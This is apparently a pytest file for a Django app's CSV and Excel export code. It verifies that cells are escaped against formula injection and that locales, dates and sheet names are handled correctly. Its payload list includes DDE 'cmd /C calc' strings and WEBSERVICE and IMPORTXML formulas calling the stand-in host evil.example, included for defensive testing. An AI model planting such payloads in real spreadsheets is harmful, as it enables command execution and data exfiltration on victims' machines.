import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from activity.spreadsheet import (
    Sheet,
    csv_lines,
    csv_response,
    guarded,
    unguarded,
    workbook,
    xlsx_response,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "=",
    "-",
    "+15145550123",
    "@personne",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example"))',
    '=WEBSERVICE("http://evil.example")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "\t\t@x",
]


def one_cell(value):
    return Sheet("Feuille", ["Nom"], [[value]])


def as_csv(sheet):
    return "".join(csv_lines(sheet))


def read_csv(text, delimiter):
    return list(
        csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    )


def read_xlsx(data):
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_can_be_read_as_a_formula(payload):
    [_, [cell]] = read_csv(as_csv(one_cell(payload)), ",")
    assert cell.startswith("'")
    assert unguarded(cell) == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula(payload):
    cell = read_xlsx(workbook([one_cell(payload)])).active["A2"]
    assert cell.data_type != "f"
    assert cell.quotePrefix


@pytest.mark.parametrize("text", ["#N/A", "TRUE", "1", "0007", "2026-11-22"])
def test_what_looks_like_a_value_stays_the_text_it_was(text):
    cell = read_xlsx(workbook([one_cell(text)])).active["A2"]
    assert (cell.data_type, cell.value) == ("s", text)


@given(st.text())
def test_the_apostrophe_can_always_be_taken_off_again(text):
    assert unguarded(guarded(text)) == text


def test_french_gets_semicolons_and_decimal_commas():
    sheet = Sheet("Réseaux", ["Réseau", "Visites", "Par partage"], [["LinkedIn; X", 1284, 4.5]])
    with translation.override("fr"):
        text = as_csv(sheet)
    assert text.startswith("\ufeff")
    assert read_csv(text, ";") == [
        ["Réseau", "Visites", "Par partage"],
        ["LinkedIn; X", "1284", "4,5"],
    ]


def test_english_gets_commas_and_decimal_points():
    with translation.override("en"):
        text = as_csv(Sheet("Networks", ["Network", "Per share"], [["A, B", 4.5]]))
    assert read_csv(text, ",") == [["Network", "Per share"], ["A, B", "4.5"]]


def test_a_quote_or_a_line_break_stays_inside_its_cell():
    assert read_csv(as_csv(one_cell('dit "oui"\npuis non')), ",")[1] == ['dit "oui"\npuis non']


def test_figures_and_dates_keep_their_type_in_a_workbook():
    sheet = Sheet("Jours", ["Jour", "Visites", "Rien"], [[date(2026, 11, 22), -3, None]])
    page = read_xlsx(workbook([sheet])).active
    assert [page["A2"].value.date(), page["B2"].value, page["C2"].value] == [
        date(2026, 11, 22),
        -3,
        None,
    ]


def test_a_moment_is_written_on_the_wall_clock():
    moment = datetime(2026, 11, 23, 4, 59, 59, 12, tzinfo=UTC)
    assert read_csv(as_csv(one_cell(moment)), ",")[1] == ["2026-11-22 23:59"]
    assert read_xlsx(workbook([one_cell(moment)])).active["A2"].value == datetime(
        2026, 11, 22, 23, 59, 59
    )


def test_sheets_whose_names_excel_refuses_get_names_it_accepts():
    long = "Visites par service: les treize dernières semaines"
    book = read_xlsx(workbook([one_cell("a")] * 2 + [Sheet(long, ["x"], [])]))
    assert book.sheetnames == ["Feuille", "Feuille 2", "Visites par service  les treize"]


def test_characters_that_xml_cannot_carry_do_not_stop_an_export():
    assert read_xlsx(workbook([one_cell("a\x00\x1fb")])).active["A2"].value == "a\ufffd\ufffdb"


def test_both_are_downloads_and_never_pages():
    for response in (
        csv_response(one_cell("<b>"), "essai"),
        xlsx_response([one_cell("<b>")], "essai"),
    ):
        assert response["Content-Disposition"].startswith('attachment; filename="essai.')
        assert response["X-Content-Type-Options"] == "nosniff"
